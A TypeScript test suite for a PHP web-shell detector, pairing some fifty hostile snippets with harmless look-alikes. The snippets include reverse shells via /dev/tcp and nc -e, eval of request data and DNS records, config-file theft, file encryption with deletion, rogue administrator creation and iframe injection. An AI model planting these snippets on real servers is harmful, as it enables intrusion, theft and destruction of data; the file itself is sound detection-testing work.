import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { beforeAll, describe, expect, test } from 'vitest'
import { analyse } from '../analyse.ts'
import { type Grammars, loadGrammars } from '../syntax.ts'
import { bytesOf } from './bytes.ts'

// Samples are text in this file and nothing else: no server runs a .ts file, and none of them does anything.

const fileOf = (name: string) => readFileSync(fileURLToPath(import.meta.resolve(name)))
let grammars: Grammars
beforeAll(async () => {
  grammars = await loadGrammars({
    runtime: fileOf('web-tree-sitter/web-tree-sitter.wasm'),
    grammars: new Map([['php', fileOf('@vscode/tree-sitter-wasm/wasm/tree-sitter-php.wasm')]]),
  })
})

const isHit = (code: string) => {
  const text = code.startsWith('<') ? code : `<?php ${code}`
  const { verdict } = analyse({ path: 'page.php', bytes: bytesOf(text), text }, grammars)
  return verdict === 'web-shell' || verdict === 'uploader' || verdict === 'dropper'
}

/** What stands around a few lines in a page of real size: functions without anything to hide. */
const ordinary = `<?php ${Array.from({ length: 14 }, (_, i) => `function size${i}($n) {\n  if ($n >= 1073741824) { $n = round($n / 1073741824 * 100) / 100 . " GB"; }\n  elseif ($n >= 1024) { $n = round($n / 1024 * 100) / 100 . " KB"; }\n  echo "<tr><td width=100>", htmlspecialchars($n), "</td></tr>";\n  return $n;\n}\n`).join('')}?>\n`

type Cell = readonly [name: string, page: string, twin: string]

/** What the request reaches, by the ways there are; each also in a page of real size. */
const ANY_SIZE: readonly Cell[] = [
  ['a header', '@assert(stripslashes($_SERVER["HTTP_X_T"]));', '$l = $_SERVER["HTTP_X_T"]; echo htmlspecialchars($l);'],
  ['all headers', 'system(end(getallheaders()));', 'echo count(getallheaders());'],
  ['the cookie of the session', 'session_start(); eval(hex2bin(session_id()));', 'session_start(); echo md5(session_id());'],
  [
    'every parameter a function',
    'foreach ($_GET as $k => $v) $k($v);',
    'foreach ($_GET as $k => $v) echo htmlspecialchars("$k $v");',
  ],
  [
    'parts of a list',
    'list($f, $a) = array_values($_POST); $f($a);',
    'list($f, $a) = array_values($_POST); echo (int) $f + (int) $a;',
  ],
  [
    'a body taken apart',
    '$j = json_decode(file_get_contents("php://input")); echo shell_exec($j->cmd);',
    '$j = json_decode(file_get_contents("php://input")); echo (int) $j->count;',
  ],
  [
    'a class of the request',
    'new $_GET["class"]($_GET["arg"]);',
    '$n = $_GET["class"] === "a" ? "ArrayObject" : "SplStack"; new $n();',
  ],
  [
    'a function put together by a decoder',
    '$f = urldecode("%73%79%73%74%65%6d"); $f($_POST["x"]);',
    '$f = urldecode("%73%74%72%6c%65%6e"); echo $f($_POST["x"]);',
  ],
  [
    'a list of letters',
    '$f = vsprintf("%c%c%c%c%c%c", array(115, 121, 115, 116, 101, 109)); $f($_POST["x"]);',
    '$f = vsprintf("%c%c", array(79, 75)); echo $f, $_POST["x"] == 1;',
  ],
  [
    'a callback of the request',
    '$e = $_REQUEST["e"]; $a = array($_POST["p"]); array_filter($a, $e);',
    '$e = "trim"; $a = array($_POST["p"]); array_map($e, $a);',
  ],
  [
    'a callback by an iterator',
    'iterator_apply($it = new ArrayIterator(array(1)), "system", array($_GET["c"]));',
    'iterator_apply($it = new ArrayIterator(array(1)), "printf", array("%d", $_GET["c"]));',
  ],
  [
    'a handler of errors',
    'set_error_handler("system"); trigger_error($_GET["c"]);',
    'set_error_handler("error_log"); trigger_error("no such page");',
  ],
  [
    'a handler of errors that runs them',
    'set_error_handler(function ($n, $s) { eval($s); }); trigger_error($_POST["c"]);',
    'set_error_handler(function ($n, $s) { echo htmlspecialchars($s); }); trigger_error($_POST["c"]);',
  ],
  [
    'a handler of exceptions',
    'set_exception_handler("system"); throw new Exception($_GET["c"]);',
    'set_exception_handler("report"); function report($e) { echo "sorry"; } throw new Exception($_GET["c"]);',
  ],
  [
    'a loader of classes',
    'spl_autoload_register("system"); class_exists($_GET["c"]);',
    'spl_autoload_register(function ($c) { include "lib/" . $c . ".php"; }); new Thing($_GET["c"]);',
  ],
  [
    'a method that takes the place of others',
    'class M { static function __callStatic($n, $a) { return $n(...$a); } } M::system($_GET["c"]);',
    'class M { static function __callStatic($n, $a) { return count($a); } } echo M::system($_GET["c"]);',
  ],
  ['a constant', 'define("X", $_POST["c"]); eval(X);', 'define("X", $_POST["c"]); echo htmlspecialchars(X);'],
  [
    'an address of data',
    'include "data:text/plain;base64," . $_POST["c"];',
    'echo "<img src=\'data:text/plain;base64,", base64_encode($_POST["c"]), "\'>";',
  ],
  [
    'a file that is written and taken in',
    '$t = tempnam("/tmp", "x"); $h = fopen($t, "w"); fwrite($h, $_POST["c"]); fclose($h); include $t;',
    '$t = tempnam("/tmp", "x"); $h = fopen($t, "w"); fwrite($h, $_POST["c"]); fclose($h); echo filesize($t);',
  ],
  [
    'the name of a class that is not there',
    `ini_set("unserialize_callback_func", "system"); unserialize($_GET["o"]);`,
    `ini_set("unserialize_callback_func", "load_class"); echo count($_GET);`,
  ],
  [
    'what goes wrong kept as a page',
    'ini_set("error_log", "x.php"); error_log($_GET["c"]);',
    'ini_set("error_log", "/var/log/site.log"); error_log($_GET["c"]);',
  ],
  [
    'the log of errors as a writer',
    'error_log($_POST["c"], 3, $_POST["f"]);',
    'error_log($_POST["c"], 0); error_log("x", 3, "/var/log/site.log");',
  ],
  [
    'another writer',
    '$z = gzopen($_POST["f"], "w"); gzwrite($z, $_POST["c"]);',
    '$z = gzopen("/var/cache/list.gz", "w"); gzwrite($z, $_POST["c"]);',
  ],
  [
    'fetched and kept as told',
    'file_put_contents(basename($_POST["u"]), file_get_contents($_POST["u"]));',
    'file_put_contents("/var/cache/feed.xml", file_get_contents("https://www.example.org/feed"));',
  ],
  [
    'a deed behind fixed words',
    'exec("rm -rf " . $_GET["d"]);',
    'exec("rm -rf " . escapeshellarg(CACHE . "/" . (int) $_GET["d"]));',
  ],
  [
    'a shell for the machine of the request',
    '$ip = $_GET["ip"]; exec("/bin/bash -c \'bash -i >& /dev/tcp/$ip/443 0>&1\'");',
    '$ip = escapeshellarg($_GET["ip"]); exec("ping -c 1 $ip");',
  ],
  [
    'commands of a connection',
    '$s = socket_create_listen(4444); $c = socket_accept($s); while ($l = socket_read($c, 1024)) socket_write($c, shell_exec($l)); echo $_GET["p"];',
    '$s = socket_create_listen(4444); $c = socket_accept($s); while ($l = socket_read($c, 1024)) socket_write($c, strtoupper($l)); echo $_GET["p"];',
  ],
  [
    'another server of another kind',
    '$x = dns_get_record("c.example.org", DNS_TXT); eval(base64_decode($x[0]["txt"])); echo $_GET["p"];',
    '$x = dns_get_record("c.example.org", DNS_TXT); echo htmlspecialchars($x[0]["txt"]), $_GET["p"];',
  ],
  [
    'a protocol of the mail program',
    'mail("a@example.org", "x", $_GET["c"], "", "-OQueueDirectory=/tmp -X/var/www/x.php");',
    'mail("a@example.org", "x", $_GET["c"], "", "-fwww@example.org");',
  ],
  [
    'a mail library that runs commands',
    'imap_open("{any -oProxyCommand=" . $_GET["c"] . "}", "", "");',
    'imap_open("{mail.example.org:993/imap/ssl}INBOX", USER, $_POST["p"]);',
  ],
  [
    'a converter with a library of its own',
    'putenv("GCONV_PATH=/tmp/"); iconv("payload", "UTF-8", "x"); echo $_GET["f"];',
    'putenv("LC_ALL=C"); echo iconv("latin1", "UTF-8", $_GET["f"]);',
  ],
  [
    'the system past the language',
    'FFI::cdef("int system(const char *c);")->system($_GET["c"]);',
    'FFI::cdef("double cos(double x);")->cos((float) $_GET["c"]);',
  ],
  [
    'processes by the management of Windows',
    '$w = new COM("winmgmts://./root/cimv2"); $w->Get("Win32_Process")->Create($_GET["c"]);',
    '$w = new COM("winmgmts://./root/cimv2"); echo count($w->ExecQuery("select * from Win32_Service"));',
  ],
  [
    'programs by the database',
    'pg_query($c, "COPY x FROM PROGRAM \'" . $_POST["c"] . "\'");',
    'pg_query($c, "COPY x FROM STDIN"); echo $_POST["c"];',
  ],
  [
    'the account of an FTP server',
    '$s = fsockopen("127.0.0.1", 43958); fputs($s, "USER LocalAdministrator\\r\\n"); fputs($s, "SITE EXEC " . $_POST["c"]);',
    '$s = fsockopen("127.0.0.1", 25); fputs($s, "HELO example\\r\\n"); echo $_POST["c"];',
  ],
  [
    'ports of other machines',
    '$h = $_POST["h"]; for ($p = $_POST["a"]; $p <= $_POST["b"]; $p++) { $s = @fsockopen($h, $p, $e, $m, 1); if ($s) echo $p; }',
    '$s = @fsockopen("192.0.2.7", 443, $e, $m, 1); for ($p = 0; $p < 3; $p++) echo $s ? "up" : "down", (int) $_POST["a"];',
  ],
  [
    'connections kept in a session',
    'session_start(); $s = fsockopen($_GET["h"], $_GET["p"]); session_write_close(); while ($_SESSION["on"]) { $_SESSION["in"] .= fread($s, 99); } echo file_get_contents("php://input");',
    'session_start(); $_SESSION["seen"] = time(); session_write_close(); while (ob_get_level()) ob_end_flush(); echo strlen(file_get_contents("php://input"));',
  ],
  [
    'the start page of every folder',
    'foreach (scandir($_POST["d"]) as $x) if (is_dir($x)) file_put_contents("$x/index.html", $_POST["t"]);',
    'foreach (scandir("docs") as $x) if (is_dir("docs/$x")) echo htmlspecialchars($x), $_POST["t"] == 1;',
  ],
  [
    'files taken away',
    'foreach (glob($_POST["d"] . "/*") as $f) { file_put_contents("$f.lock", openssl_encrypt(file_get_contents($f), "aes-256-cbc", $_POST["k"])); unlink($f); }',
    'foreach (glob("/srv/site/*") as $f) { file_put_contents("/backup/$f.enc", openssl_encrypt(file_get_contents($f), "aes-256-cbc", KEY)); echo $_POST["k"] == 1; }',
  ],
  [
    'settings of others',
    'foreach (array("wp-config.php", "configuration.php", "config.inc.php") as $c) echo file_get_contents("/home/" . $_POST["u"] . "/public_html/$c");',
    'foreach (array("wp-config.php", "readme.html") as $c) echo file_exists($c), $_POST["u"] == 1;',
  ],
  [
    'accounts of the machine',
    'for ($i = 0; $i < 5000; $i++) { $x = @posix_getpwuid($i); if ($x) echo implode(":", $x), $_GET["s"]; }',
    '$x = posix_getpwuid(posix_geteuid()); echo $x["name"], $_GET["s"] == 1;',
  ],
  [
    'an administrator for whoever asks',
    'if ($_GET["k"] == "x") { $id = wp_create_user("u", "p"); $u = new WP_User($id); $u->set_role("administrator"); }',
    'if ($_GET["k"] == "x") { $id = wp_create_user($n, $p); $u = new WP_User($id); $u->set_role("subscriber"); }',
  ],
  [
    'fields that are variables',
    '<form><input name=cmd></form><? if ($act == "del") unlink($file); passthru($cmd); ?>',
    '<form><input name=q></form><? $file = "cache.txt"; if (is_file($file)) unlink($file); ?>',
  ],
  [
    'folders it may write to',
    'function look($d) { foreach (scandir($d) as $x) { if (is_dir("$d/$x")) { if (is_writable("$d/$x")) echo "$d/$x"; look("$d/$x"); } } } look($_POST["d"]);',
    'foreach (array("cache", "upload") as $d) if (is_dir($d) && !is_writable($d)) echo "make $d writable", $_POST["d"] == 1;',
  ],
  [
    'mail to a list that is typed in',
    '$l = explode("\\n", $_POST["list"]); foreach ($l as $to) mail(trim($to), $_POST["s"], $body, "From: " . $from); echo "<textarea name=list></textarea>";',
    'mail("desk@example.org", "Question", wordwrap($_POST["text"]), "From: www@example.org"); echo "<textarea name=text></textarea>";',
  ],
]

/** What only a page that does nothing else is there for. */
const ALONE: readonly Cell[] = [
  [
    'one deed with the file named',
    'unlink($_GET["f"]);',
    'require "auth.php"; check_login(); unlink(CACHE . "/" . basename($_GET["f"]));',
  ],
  ['an archive as a page', 'include "zip://upload/a.zip#b";', 'include "phar://library.phar/index.php";'],
  ['a shell handed to another machine', 'system("nc -e /bin/sh 192.0.2.1 4444");', 'system("nc -z 192.0.2.1 22");'],
  [
    'copies of itself',
    'foreach (glob("*", GLOB_ONLYDIR) as $d) copy(__FILE__, $d . "/index.php");',
    'foreach (glob("*", GLOB_ONLYDIR) as $d) copy("default.html", $d . "/index.html");',
  ],
  [
    'a frame in all pages',
    'foreach (glob("*.php") as $f) file_put_contents($f, file_get_contents($f) . "<iframe src=http://www.example.org width=0></iframe>");',
    'foreach (glob("*.md") as $f) file_put_contents("$f.html", "<h1>" . file_get_contents($f) . "</h1>");',
  ],
  [
    'a page fetched in several steps',
    '$d = file_get_contents("http://www.example.org/s.txt"); $h = fopen("a.php", "w"); fwrite($h, $d); fclose($h);',
    '$d = file_get_contents("http://www.example.org/s.txt"); $h = fopen("a.txt", "w"); fwrite($h, $d); fclose($h); include "b.php";',
  ],
]

describe('what PHP pages of strangers do, and what looks like it', () => {
  test.each([...ANY_SIZE, ...ALONE])('%s', (_name, page, twin) => {
    expect([isHit(page), isHit(twin)]).toEqual([true, false])
  })

  test.each(ANY_SIZE)('in a page of real size: %s', (_name, page, twin) => {
    const [whole, other] = [page, twin].map(code => ordinary + (code.startsWith('<') ? code : `<?php ${code}`))
    expect([isHit(whole ?? ''), isHit(other ?? '')]).toEqual([true, false])
  })
})
